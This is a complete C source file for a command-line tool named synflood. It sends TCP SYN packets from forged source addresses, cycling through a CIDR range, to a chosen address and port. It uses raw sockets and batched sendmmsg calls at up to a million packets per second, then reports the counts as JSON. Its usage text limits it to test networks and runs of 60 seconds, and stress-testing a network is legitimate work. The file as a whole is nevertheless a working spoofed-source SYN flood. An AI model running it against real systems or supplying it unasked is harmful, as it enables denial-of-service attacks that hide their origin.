/*
 * synflood: TCP SYNs from forged addresses, one after the other of a range, each from another port.
 * Raw sockets take packets with their IP headers (raw(7), ipv6(7)); the segment as in RFC 9293, section 3.1.
 */
#include <errno.h>
#include <getopt.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <string.h>
#include <unistd.h>

#include "addresses.h"
#include "report.h"
#include "run.h"

static const char usage[] =
    "Usage: synflood --from CIDR [OPTIONS] ADDRESS PORT\n"
    "Sends SYNs whose sources are forged. For test networks. Prints one line of JSON at the end.\n"
    "  --from CIDR          source addresses, used in turn; they need not be local (needed)\n"
    "  --sources N          use only the first N of them\n"
    "  --rate N             SYNs per second, at most 1000000 (default 1000)\n"
    "  --seconds S          stop after S seconds, at most 60 (default 1)\n"
    "Needs CAP_NET_RAW. SIGTERM and Ctrl-C end it early, with the report.\n"
    "Example: synflood --from 60.0.0.0/12 --rate 100000 --seconds 3 10.0.0.0 5001\n";

enum { BURST = 64, FIRST_PORT = 1024, PACKET = sizeof(struct ip6_hdr) + sizeof(struct tcphdr) };

static uint32_t sum_words(uint32_t sum, const void *bytes, size_t length) { /* RFC 1071; an even length */
	uint16_t word;
	for (size_t i = 0; i < length; i += 2) {
		memcpy(&word, (const char *)bytes + i, 2);
		sum += ntohs(word);
	}
	return sum;
}

static uint16_t fold(uint32_t sum) {
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

/* Returns the packet's length. The kernel fills in the checksum of an IPv4 header. */
static size_t put_syn(unsigned char *packet, const address_t *from, const address_t *to, unsigned port, uint32_t sequence) {
	struct tcphdr tcp = {.source = htons((uint16_t)port),
	                     .dest = htons((uint16_t)address_port(to)),
	                     .seq = htonl(sequence),
	                     .doff = sizeof tcp / 4,
	                     .syn = 1,
	                     .window = htons(64000)};
	uint32_t sum = sum_words(IPPROTO_TCP + sizeof tcp, &tcp, sizeof tcp);
	size_t at;
	if (to->any.sa_family == AF_INET) {
		struct iphdr ip = {.version = 4,
		                   .ihl = 5,
		                   .tot_len = htons(sizeof ip + sizeof tcp),
		                   .ttl = 64,
		                   .protocol = IPPROTO_TCP,
		                   .saddr = from->v4.sin_addr.s_addr,
		                   .daddr = to->v4.sin_addr.s_addr};
		sum = sum_words(sum, &ip.saddr, 8);
		memcpy(packet, &ip, at = sizeof ip);
	} else {
		struct ip6_hdr ip = {.ip6_src = from->v6.sin6_addr, .ip6_dst = to->v6.sin6_addr};
		ip.ip6_flow = htonl(6u << 28);
		ip.ip6_plen = htons(sizeof tcp);
		ip.ip6_nxt = IPPROTO_TCP;
		ip.ip6_hlim = 64;
		sum = sum_words(sum, &ip.ip6_src, 32);
		memcpy(packet, &ip, at = sizeof ip);
	}
	tcp.check = fold(sum);
	memcpy(packet + at, &tcp, sizeof tcp);
	return at + sizeof tcp;
}

static int raw_socket(const address_t *to) {
	int fd = socket(to->any.sa_family, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW), on = 1;
	if (fd < 0)
		die("raw socket");
	if (to->any.sa_family == AF_INET6)
		setsockopt(fd, IPPROTO_IPV6, IPV6_HDRINCL, &on, sizeof on);
	address_t there = *to;
	if (to->any.sa_family == AF_INET6)
		there.v6.sin6_port = 0; /* is the protocol's place: raw(7) */
	if (connect(fd, &there.any, address_size(&there)) < 0)
		die("connect");
	return fd;
}

static failures_t failures;

static uint64_t flood(int fd, const range_t *from, uint64_t sources, const address_t *to, double rate, uint64_t end) {
	static unsigned char packets[BURST][PACKET];
	struct iovec parts[BURST];
	struct mmsghdr messages[BURST] = {0};
	uint64_t sent = 0, begin = now_ns();
	for (uint64_t now = begin; !stop && now < end; now = now_ns()) {
		for (unsigned i = 0; i < BURST; i++) {
			uint64_t number = sent + i;
			address_t source = range_pick(from, number % sources, 0);
			unsigned port = FIRST_PORT + (unsigned)(number / sources % (65536 - FIRST_PORT));
			parts[i] = (struct iovec){packets[i], put_syn(packets[i], &source, to, port, (uint32_t)number)};
			messages[i].msg_hdr.msg_iov = &parts[i];
			messages[i].msg_hdr.msg_iovlen = 1;
		}
		int done = sendmmsg(fd, messages, BURST, 0);
		if (done < 0) {
			failure_add(&failures, errno);
			done = 1; /* so that a lasting error does not last for ever */
		}
		sent += (uint64_t)done;
		sleep_until_ns(begin + (uint64_t)((double)sent * 1e9 / rate));
	}
	return sent;
}

int main(int argc, char **argv) {
	static const struct option known[] = {
	    {"from", required_argument, NULL, 'f'}, {"sources", required_argument, NULL, 'n'},
	    {"rate", required_argument, NULL, 'r'}, {"seconds", required_argument, NULL, 's'},
	    {"help", no_argument, NULL, 'h'},       {0}};
	range_t from = {.count = 0};
	uint64_t sources = 0;
	double rate = 1000, seconds = 1;
	for (int option; (option = getopt_long(argc, argv, "", known, NULL)) >= 0;) {
		switch (option) {
		case 'f': from = range_parse(optarg); break;
		case 'n': sources = (uint64_t)number("--sources", optarg, 1, MAX_RANGE); break;
		case 'r': rate = number("--rate", optarg, 1, 1000000); break;
		case 's': seconds = number("--seconds", optarg, 0.01, 60); break;
		case 'h': fputs(usage, stdout); return 0;
		default: misuse("unknown or incomplete option");
		}
	}
	address_t to = target_parse(argc - optind, argv + optind, &from, &sources);
	if (!sources)
		misuse("needs --from");
	run_prepare();
	int fd = raw_socket(&to);
	uint64_t begin = now_ns();
	uint64_t sent = flood(fd, &from, sources, &to, rate, begin + (uint64_t)(seconds * 1e9));
	double time = (double)(now_ns() - begin) / 1e9;
	report_open(NULL);
	json_begin(NULL);
	json_count("sent", sent);
	json_real("seconds", time);
	json_real("per_second", (double)sent / time);
	failures_print("errors", &failures);
	json_end();
	return 0;
}
